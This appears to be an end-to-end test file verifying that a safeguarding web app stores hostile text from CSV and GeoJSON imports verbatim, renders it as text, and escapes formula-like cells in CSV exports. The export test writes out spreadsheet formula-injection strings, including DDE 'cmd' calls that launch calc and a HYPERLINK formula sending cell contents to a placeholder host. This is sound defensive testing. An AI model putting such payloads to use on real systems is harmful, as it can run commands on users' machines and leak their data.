import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import type { Page } from 'playwright-core';
import { describe, expect, inject, it } from 'vitest';
import { ARTIFACTS } from '../e2e/browser.js';
import { expectText, gql, hostileTextSuite, NAME, noScriptRan, PAYLOADS, visit } from './xss-support.js';

/**
 * Hostile text that arrives in files rather than forms — CSV imports (cells and header names), a
 * GeoJSON boundary file (ward names, attribution, source), a saved view's name — is stored exactly
 * as sent and shown as text on every page that holds it; a CSV the dashboard downloads keeps to the
 * product's CSV policy (shared/src/csv.ts).
 */
const baseUrl = inject('baseUrl');
const stamp = Date.now().toString(36).toUpperCase();

/** Two tiny synthetic squares far from the demo borough: no place of the demo falls inside them. */
const WARD_CODES = [`XSS${stamp}A`, `XSS${stamp}B`];

const { db, signedIn } = hostileTextSuite('xss-imports.e2e.ts', {
  // The boundary import adds codes (it replaces only codes already held): removing ours leaves the demo's wards as they were for later files.
  cleanUp: async (client) => {
    await client.query(`DELETE FROM boundary WHERE kind = 'WARD' AND code = ANY($1::text[])`, [WARD_CODES]);
  },
});

/** One CSV cell, quoted as a spreadsheet would write it. */
const cell = (v: string) => (/[",\r\n]/.test(v) ? `"${v.replace(/"/g, '""')}"` : v);
const line = (cells: readonly string[]) => cells.map(cell).join(',');
const upload = (page: Page, label: RegExp, csv: string, name: string) => page.getByLabel(label).setInputFiles({ name, mimeType: 'text/csv', buffer: Buffer.from(csv) });

const PREVIEW_YP = `mutation($csv: String!, $m: [ColumnMappingInput!]) { previewYoungPeopleImport(csv: $csv, mapping: $m) {
  headers mapping { key header } total creates errors fileErrors rows { line reference outcome errors { column message } } } }`;
const START_YP = `mutation($csv: String!, $m: [ColumnMappingInput!]!) { startYoungPeopleImport(csv: $csv, mapping: $m) { id status } }`;

type Preview = {
  headers: string[];
  mapping: { key: string; header: string }[];
  total: number;
  creates: number;
  errors: number;
  fileErrors: string[];
  rows: { line: number; reference: string | null; outcome: string; errors: { column: string; message: string }[] }[];
};

describe('hostile text in a young-people CSV', () => {
  // Header names no suggestion would match, each with markup in it.
  const H = {
    reference: `Ref ${PAYLOADS.svg}`,
    firstName: `Forename ${PAYLOADS.img}`,
    lastName: `Surname ${PAYLOADS.script}`,
    dateOfBirth: 'Born',
    gender: `Sex ${PAYLOADS.attr}`,
    ethnicity: 'Ethnic',
    legalStatus: 'Legal',
    educationStatus: 'Schooling',
    presentation: 'Presents',
    school: `Provision ${PAYLOADS.js}`,
    homeWard: `Ward ${PAYLOADS.text}`,
  } as const;
  const keys = Object.keys(H) as (keyof typeof H)[];
  const mapping = keys.map((key) => ({ key, header: H[key] }));
  const header = line(keys.map((k) => H[k]));
  const person = (ref: string, first: string, last: string, dob: string, over: Partial<Record<keyof typeof H, string>> = {}) =>
    line(
      keys.map(
        (k) =>
          ({
            reference: ref,
            firstName: first,
            lastName: last,
            dateOfBirth: dob,
            gender: 'FEMALE',
            ethnicity: 'WHITE_BRITISH',
            legalStatus: 'CHILD_IN_NEED',
            educationStatus: 'IN_EDUCATION',
            presentation: 'CSE',
            school: `${PAYLOADS.attr}${PAYLOADS.svg}`,
            homeWard: PAYLOADS.formula,
            ...over,
          })[k],
      ),
    );
  const first = `${NAME}`;
  const last = `${PAYLOADS.script}${stamp}`;
  const ref = `XI${stamp}`.slice(0, 20);

  it('shows the headers, cells and per-row errors as text when the file is uploaded through the import page', async () => {
    const { context, page, problems } = await signedIn('COORDINATOR');
    // Line 3: a gender that is markup, so its error (which quotes the cell and names the hostile header) is shown.
    const csv = [header, person(`${ref}-U1`, first, `${last}u`, '2011-02-03'), person(`${ref}-U2`, PAYLOADS.svg, `${last}v`, '2011-02-04', { gender: PAYLOADS.img })].join('\n');
    await page.goto(`${baseUrl}/list/import`);
    await page.getByRole('heading', { name: 'Choose the file' }).waitFor();
    await upload(page, /CSV file/, csv, `${PAYLOADS.svg}.csv`);
    await page.getByRole('button', { name: 'Continue' }).click();
    await page.getByRole('heading', { name: 'Match the columns' }).waitFor();
    // The hostile header names are the options of every column's select.
    await expectText(page, [H.reference, H.firstName, H.lastName, H.gender, H.school, H.homeWard], 'match the columns');
    await noScriptRan(page, 'match the columns');
    for (const key of keys) await page.locator(`#column-${key}`).selectOption(H[key]);
    await page.getByRole('button', { name: 'Check the rows' }).click();
    await page.getByRole('heading', { name: 'Check the rows' }).waitFor();
    // The per-row error: the hostile header, then the hostile cell quoted in the message.
    await expectText(page, [`${H.gender}: "${PAYLOADS.img}" is not one of`, `${ref}-U1`], 'check the rows');
    await page.waitForLoadState('networkidle');
    await noScriptRan(page, 'check the rows');
    expect(await page.getByRole('button', { name: /^Import / }).count()).toBe(0);
    await page.screenshot({ path: join(ARTIFACTS, 'xss-import-young-people-errors.png'), fullPage: true });
    expect(await db.query(`SELECT 1 FROM young_person WHERE reference LIKE $1`, [`${ref}-U%`]).then((r) => r.rowCount)).toBe(0);
    expect(problems).toEqual([]);
    await context.close();
  });

  it('imports hostile cells and headers verbatim, and the young person’s page shows them as text', async () => {
    const { context, page, problems } = await signedIn('COORDINATOR');
    const bad = [header, person(`${ref}-G1`, first, last, '2011-03-04', { gender: PAYLOADS.script })].join('\n');
    const preview = (await gql<{ previewYoungPeopleImport: Preview }>(page, PREVIEW_YP, { csv: bad, m: mapping })).previewYoungPeopleImport;
    expect(preview.headers).toEqual(keys.map((k) => H[k]));
    expect(preview.rows[0].errors).toEqual([{ column: H.gender, message: expect.stringContaining(`"${PAYLOADS.script}" is not one of`) as string }]);
    // A mapping naming a header that is not in the file is refused, naming the header as sent.
    await expect(gql(page, PREVIEW_YP, { csv: bad, m: [{ key: 'reference', header: PAYLOADS.svg }] })).rejects.toThrow(/mapping\.header/);

    const good = [header, person(`${ref}-G1`, first, last, '2011-03-04')].join('\n');
    const checked = (await gql<{ previewYoungPeopleImport: Preview }>(page, PREVIEW_YP, { csv: good, m: mapping })).previewYoungPeopleImport;
    expect(checked).toMatchObject({ total: 1, creates: 1, errors: 0, fileErrors: [] });
    const started = await gql<{ startYoungPeopleImport: { id: string } }>(page, START_YP, { csv: good, m: mapping });
    await expect
      .poll(async () => (await gql<{ importJob: { status: string } }>(page, `query($id: ID!) { importJob(id: $id) { status } }`, { id: started.startYoungPeopleImport.id })).importJob.status, { timeout: 30_000 })
      .toBe('DONE');
    const { rows } = await db.query<{ id: string; first_name: string; last_name: string; school: string; home_ward: string }>(
      `SELECT id, first_name, last_name, school, home_ward FROM young_person WHERE reference = $1`,
      [`${ref}-G1`],
    );
    expect(rows).toHaveLength(1);
    expect(rows[0]).toMatchObject({ first_name: first, last_name: last, school: `${PAYLOADS.attr}${PAYLOADS.svg}`, home_ward: PAYLOADS.formula });
    await visit(page, `/list/${rows[0].id}`, [first, last, `${PAYLOADS.attr}${PAYLOADS.svg}`, PAYLOADS.formula]);
    await page.screenshot({ path: join(ARTIFACTS, 'xss-import-young-person.png'), fullPage: true });
    expect(problems).toEqual([]);
    await context.close();
  });
});

describe('hostile text in intelligence CSVs', () => {
  const LINK_HEADER = ['From type', 'From', 'To type', 'To', 'Link type', 'Source agency', 'First seen', 'Last seen', 'Source grade', 'Intelligence grade', 'Handling'];
  const HOT_HEADER = ['Place', 'Month', 'Sightings', 'Incidents', 'Risk level', 'Notes'];
  const PLACE = `${PAYLOADS.img}${PAYLOADS.sql} ${stamp}`;
  const NOTES = `${PAYLOADS.attr}${PAYLOADS.script} ${PAYLOADS.text}`;
  const PREVIEW = (kind: 'Links' | 'HotSpotReports') => `mutation($csv: String!) { preview${kind}Import(csv: $csv) { headers total creates errors fileErrors rows { line outcome errors { column message } } } }`;

  it('previews and imports links and hot-spot reports verbatim, shown as text on the import pages and the place’s page', async () => {
    const { context, page, problems } = await signedIn('POLICE');
    const place = await gql<{ createLocation: { location: { id: string } } }>(page, `mutation($i: CreateLocationInput!) { createLocation(input: $i) { location { id } } }`, { i: { name: PLACE, type: 'ONLINE_PLATFORM' } });
    const placeId = place.createLocation.location.id;
    const { rows: [poc] } = await db.query<{ police_reference: string }>(`SELECT police_reference FROM person_of_concern ORDER BY police_reference LIMIT 1`);
    const agency = 'Kingsmere Police, Public Protection Unit';
    const goodLink = ['Person of concern', poc.police_reference, 'Place', PLACE, 'FREQUENTS', agency, '2026-01-04', '2026-02-01', '2', 'B', 'P'];

    // Hostile values in fields that are refused: the errors quote them, as text. A hostile extra header too.
    const badLinks = [line([...LINK_HEADER, `Note ${PAYLOADS.svg}`]), line([...goodLink.slice(0, 4), PAYLOADS.script, ...goodLink.slice(5), 'x']), line([...goodLink.slice(0, 3), PAYLOADS.img, ...goodLink.slice(4), 'y'])].join('\n');
    const previewBad = (await gql<{ previewLinksImport: Preview }>(page, PREVIEW('Links'), { csv: badLinks })).previewLinksImport;
    expect(previewBad.errors).toBe(2);
    expect(JSON.stringify(previewBad.rows)).toContain(JSON.stringify(PAYLOADS.script).slice(1, -1));
    await expect(gql(page, `mutation($csv: String!) { importLinks(csv: $csv) { created } }`, { csv: badLinks })).rejects.toThrow(/error/i);

    await page.goto(`${baseUrl}/intelligence/import/links`);
    await page.getByRole('heading', { name: 'Choose the file' }).waitFor();
    await upload(page, /CSV file/, badLinks, 'links.csv');
    await page.getByRole('button', { name: 'Continue' }).click();
    await page.getByRole('heading', { name: 'Check the rows' }).waitFor();
    await expectText(page, [PAYLOADS.script, PAYLOADS.img], 'links import: errors');
    await page.waitForLoadState('networkidle');
    await noScriptRan(page, 'links import: errors');
    await page.screenshot({ path: join(ARTIFACTS, 'xss-import-links-errors.png'), fullPage: true });

    const goodLinks = [line(LINK_HEADER), line(goodLink)].join('\n');
    expect((await gql<{ previewLinksImport: Preview }>(page, PREVIEW('Links'), { csv: goodLinks })).previewLinksImport).toMatchObject({ errors: 0, fileErrors: [] });
    await gql(page, `mutation($csv: String!) { importLinks(csv: $csv) { created } }`, { csv: goodLinks });

    const month = new Date().toISOString().slice(0, 7);
    const hot = [line(HOT_HEADER), line([PLACE, month, '3', '1', 'HIGH', NOTES])].join('\n');
    const badHot = [line(HOT_HEADER), line([PLACE, month, '3', '1', PAYLOADS.svg, NOTES])].join('\n');
    const hotBad = (await gql<{ previewHotSpotReportsImport: Preview }>(page, PREVIEW('HotSpotReports'), { csv: badHot })).previewHotSpotReportsImport;
    expect(hotBad.errors).toBe(1);
    await expect(gql(page, `mutation($csv: String!) { importHotSpotReports(csv: $csv) { created } }`, { csv: badHot })).rejects.toThrow(/error/i);
    await page.goto(`${baseUrl}/intelligence/import/hot-spot-reports`);
    await page.getByRole('heading', { name: 'Choose the file' }).waitFor();
    await upload(page, /CSV file/, badHot, 'hot-spots.csv');
    await page.getByRole('button', { name: 'Continue' }).click();
    await page.getByRole('heading', { name: 'Check the rows' }).waitFor();
    await expectText(page, [PAYLOADS.svg], 'hot-spot import: errors');
    await page.waitForLoadState('networkidle');
    await noScriptRan(page, 'hot-spot import: errors');
    expect((await gql<{ previewHotSpotReportsImport: Preview }>(page, PREVIEW('HotSpotReports'), { csv: hot })).previewHotSpotReportsImport).toMatchObject({ errors: 0, fileErrors: [] });
    await gql(page, `mutation($csv: String!) { importHotSpotReports(csv: $csv) { created } }`, { csv: hot });

    const { rows } = await db.query<{ notes: string; name: string }>(`SELECT h.notes, l.name FROM hot_spot_report h JOIN location l ON l.id = h.location_id WHERE l.id = $1`, [placeId]);
    expect(rows).toEqual([{ notes: NOTES, name: PLACE }]);
    await visit(page, `/intelligence/places/${placeId}`, [PLACE, NOTES]);
    await page.screenshot({ path: join(ARTIFACTS, 'xss-import-place.png'), fullPage: true });
    expect(problems).toEqual([]);
    await context.close();
  });

  it('in a return’s CSV is previewed verbatim and shown as text on the return page', async () => {
    const { context, page, problems } = await signedIn('AGENCY_LEAD');
    const period = (() => {
      const d = new Date();
      return new Date(Date.UTC(d.getUTCFullYear(), d.getUTCMonth() - 33, 1)).toISOString().slice(0, 7);
    })();
    const { rows: [lead] } = await db.query<{ agency_id: string }>(`SELECT agency_id FROM app_user WHERE role = 'AGENCY_LEAD' LIMIT 1`);
    const outcomes = `${PAYLOADS.script}${PAYLOADS.text}`;
    const blockage = `${PAYLOADS.attr}${PAYLOADS.sql}`;
    const csv = [line(['Section', 'Item', 'Value', 'Detail']), line(['Outcomes', '', outcomes, '']), line(['Blockage', '', blockage, '']), line([PAYLOADS.img, '', 'x', ''])].join('\n');
    const r = await gql<{ previewReturnCsv: { fileErrors: string[]; problems: { column: string; message: string }[]; content: { outcomes: string; blockages: string[] } } }>(
      page,
      `mutation($a: ID!, $p: String!, $csv: String!) { previewReturnCsv(agencyId: $a, period: $p, csv: $csv) { fileErrors problems { column message } content { outcomes blockages } } }`,
      { a: lead.agency_id, p: period, csv },
    );
    expect(r.previewReturnCsv.content).toEqual({ outcomes, blockages: [blockage] });
    expect(r.previewReturnCsv.problems.some((p) => p.message.includes(PAYLOADS.img))).toBe(true);
    await page.goto(`${baseUrl}/returns/${period}`);
    await page.getByRole('heading', { level: 1 }).first().waitFor();
    await page.getByRole('button', { name: 'Upload a CSV instead' }).click();
    await upload(page, /CSV file of your agency/, csv, 'return.csv');
    await page.getByRole('button', { name: 'Check the file' }).click();
    await page.getByRole('heading', { name: 'Check the return from your file' }).waitFor();
    // The problem quotes the hostile section; what the file holds is shown before it fills the form.
    await expectText(page, [PAYLOADS.img, outcomes, blockage], 'return CSV: check');
    await page.waitForLoadState('networkidle');
    await noScriptRan(page, 'return CSV: check');
    await page.screenshot({ path: join(ARTIFACTS, 'xss-import-return.png'), fullPage: true });
    expect(problems).toEqual([]);
    await context.close();
  });
});

describe('hostile text in a ward boundaries file', () => {
  const WARD_NAMES = [`${PAYLOADS.script}${PAYLOADS.img} ward`, `${PAYLOADS.formula}`];
  const ATTRIBUTION = `${PAYLOADS.img}${PAYLOADS.svg} © <b>Synthetic</b> & ${PAYLOADS.text}`;
  const SOURCE = `${PAYLOADS.attr}${PAYLOADS.sql}.geojson`;
  const CODE_PROPERTY = `code${PAYLOADS.svg}`;
  const NAME_PROPERTY = `name${PAYLOADS.attr}`;

  it('is stored verbatim and shown as text on the boundaries page and in the map’s attribution', async () => {
    const square = (lng: number, lat: number) => [[[lng, lat], [lng + 0.01, lat], [lng + 0.01, lat + 0.01], [lng, lat + 0.01], [lng, lat]]];
    const geojson = JSON.stringify({
      type: 'FeatureCollection',
      features: WARD_CODES.map((code, i) => ({ type: 'Feature', properties: { [CODE_PROPERTY]: code, [NAME_PROPERTY]: WARD_NAMES[i] }, geometry: { type: 'Polygon', coordinates: square(10 + i * 0.01, 10) } })),
    });
    const admin = await signedIn('ADMIN');
    const result = await gql<{ importBoundaries: { imported: number; replaced: number } }>(admin.page, `mutation($i: ImportBoundariesInput!) { importBoundaries(input: $i) { imported replaced } }`, {
      i: { kind: 'WARD', geojson, codeProperty: CODE_PROPERTY, nameProperty: NAME_PROPERTY, source: SOURCE, attribution: ATTRIBUTION },
    });
    expect(result.importBoundaries).toEqual({ imported: 2, replaced: 0 });
    const { rows } = await db.query<{ code: string; name: string; source: string; attribution: string }>(`SELECT code, name, source, attribution FROM boundary WHERE code = ANY($1::text[]) ORDER BY code`, [WARD_CODES]);
    expect(rows).toEqual(WARD_CODES.map((code, i) => ({ code, name: WARD_NAMES[i], source: SOURCE, attribution: ATTRIBUTION })));
    // The demo's wards are still there beside them.
    expect(Number((await db.query<{ n: string }>(`SELECT count(*) AS n FROM boundary WHERE kind = 'WARD' AND NOT code = ANY($1::text[])`, [WARD_CODES])).rows[0].n)).toBeGreaterThanOrEqual(12);
    await visit(admin.page, '/admin/boundaries', [...WARD_NAMES, SOURCE, ATTRIBUTION]);
    await admin.page.screenshot({ path: join(ARTIFACTS, 'xss-boundaries.png'), fullPage: true });
    expect(admin.problems).toEqual([]);
    await admin.context.close();

    const police = await signedIn('POLICE');
    await police.page.goto(`${baseUrl}/intelligence/map`);
    await police.page.getByRole('heading', { level: 1 }).first().waitFor();
    const attribution = police.page.locator('.leaflet-control-attribution');
    // Leaflet's control inserts its attribution as HTML: the product escapes it, so the text (tags and all) reads as typed.
    await expect.poll(() => attribution.textContent(), { timeout: 15_000 }).toContain(ATTRIBUTION);
    // None of the markup in it became elements (Leaflet's own prefix has an svg flag, with no handler).
    expect(await attribution.locator('b, img, svg[onload]').count()).toBe(0);
    await police.page.waitForLoadState('networkidle');
    await noScriptRan(police.page, 'hot-spot map');
    await police.page.screenshot({ path: join(ARTIFACTS, 'xss-boundaries-map.png') });
    expect(police.problems).toEqual([]);
    await police.context.close();
  });
});

describe('hostile text in a saved view’s name', () => {
  const VIEW = `${PAYLOADS.script}${PAYLOADS.img} ${stamp}`.slice(0, 100);

  it('is stored verbatim and shown as text to its maker and to another user it is shared with', async () => {
    const analyst = await signedIn('ANALYST');
    const to = new Date().toISOString().slice(0, 7);
    const from = `${Number(to.slice(0, 4)) - 1}${to.slice(4)}`;
    const saved = await gql<{ saveView: { id: string; name: string; shared: boolean } }>(analyst.page, `mutation($i: SaveViewInput!) { saveView(input: $i) { id name shared } }`, { i: { name: VIEW, shared: true, filter: { from, to } } });
    expect(saved.saveView).toMatchObject({ name: VIEW, shared: true });
    const { rows } = await db.query<{ name: string }>(`SELECT name FROM saved_view WHERE id = $1`, [saved.saveView.id]);
    expect(rows[0].name).toBe(VIEW);
    await visit(analyst.page, '/analysis', [VIEW]);
    expect(analyst.problems).toEqual([]);
    await analyst.context.close();

    const chair = await signedIn('CO_CHAIR');
    await visit(chair.page, '/analysis', [VIEW]);
    await chair.page.getByText('Saved views: save these filters, or open a view').click();
    await chair.page.locator('a', { hasText: VIEW }).first().click();
    await chair.page.waitForLoadState('networkidle');
    await expectText(chair.page, [VIEW], 'the view opened');
    await noScriptRan(chair.page, 'the view opened');
    await chair.page.screenshot({ path: join(ARTIFACTS, 'xss-saved-view.png'), fullPage: true });
    expect(chair.problems).toEqual([]);
    await chair.context.close();
  });
});

describe('a CSV the dashboard downloads', () => {
  it('is the export exactly, with formula-like cells written as text and the text otherwise verbatim', async () => {
    const { context, page, problems } = await signedIn('ANALYST');
    await page.goto(`${baseUrl}/analysis`);
    await page.getByRole('heading', { level: 1 }).first().waitFor();
    const widget = page.locator('#widget-gender');
    await widget.waitFor();
    const [download] = await Promise.all([page.waitForEvent('download'), widget.getByRole('button', { name: 'Download CSV' }).click()]);
    const text = readFileSync(await download.path(), 'utf8');
    // The dashboard's widgets export fixed category labels, counts and months only: the file's structure, exactly.
    expect(download.suggestedFilename()).toMatch(/^mase-profile-gender-\d{4}-\d\d-to-\d{4}-\d\d\.csv$/);
    expect(text.endsWith('\r\n')).toBe(true);
    const lines = text.slice(0, -2).split('\r\n');
    expect(lines[0]).toBe('Month,Female,Male,Non-binary,Other,Not known,On the list');
    expect(lines.length).toBeGreaterThan(1);
    for (const l of lines.slice(1)) expect(l).toMatch(/^\d{4}-\d\d(,(\d+|c))+$/);
    expect(problems).toEqual([]);
    await context.close();
  });

  it('of young people by home ward (free text) writes a ward that starts like a formula as text, and the rest verbatim', async () => {
    // A ward name is free text (typed or imported): give the demo’s Millbrook wards hostile names for this month’s live count, then put them back.
    const { rows: people } = await db.query<{ id: string }>(`SELECT id FROM young_person WHERE home_ward = 'Millbrook'`);
    expect(people.length).toBeGreaterThan(0);
    const ids = people.map((p) => p.id);
    const wards = [PAYLOADS.formula, PAYLOADS.cmd, PAYLOADS.plus, PAYLOADS.at];
    const { context, page, problems } = await signedIn('ANALYST');
    try {
      for (const [i, id] of ids.entries()) await db.query(`UPDATE young_person SET home_ward = $1 WHERE id = $2`, [wards[i % wards.length], id]);
      const month = new Date().toISOString().slice(0, 7);
      const out = await gql<{ exportAnalytics: { csv: string; header: string[] } }>(page, `mutation($f: AnalyticsFilter!) { exportAnalytics(widget: PROFILE, dimension: WARD, filter: $f) { csv header } }`, { f: { from: month, to: month } });
      const shown = wards.slice(0, ids.length);
      // The header the API gives is the text as stored; the file holds each with an apostrophe first, quoted where it holds a quote or comma.
      for (const w of shown) expect(out.exportAnalytics.header).toContain(w);
      const headerLine = out.exportAnalytics.csv.split('\r\n')[0];
      expect(headerLine).toContain(`"'=HYPERLINK(""http://x.invalid/?""&A1,""Open"")"`);
      if (shown.includes(PAYLOADS.cmd)) expect(headerLine).toContain(`'=cmd|' /C calc'!A0`);
      if (shown.includes(PAYLOADS.plus)) expect(headerLine).toContain(`'+1+cmd|' /C calc'!A0`);
      if (shown.includes(PAYLOADS.at)) expect(headerLine).toContain(`'@SUM(1+1)*cmd|' /C calc'!A0`);
      // No cell of the file starts with a formula character.
      for (const c of headerLine.split(',')) expect(c.replace(/^"/, '')).not.toMatch(/^[=+@\t\r]|^-(?!\d)/);
      // The other wards, the month and the total, verbatim.
      expect(headerLine.startsWith('Month,')).toBe(true);
      expect(headerLine.endsWith(',On the list')).toBe(true);
      expect(headerLine.split(',')).toContain('Abbey Fields');
    } finally {
      await db.query(`UPDATE young_person SET home_ward = 'Millbrook' WHERE id = ANY($1::uuid[])`, [ids]);
    }
    expect(problems).toEqual([]);
    await context.close();
  });
});
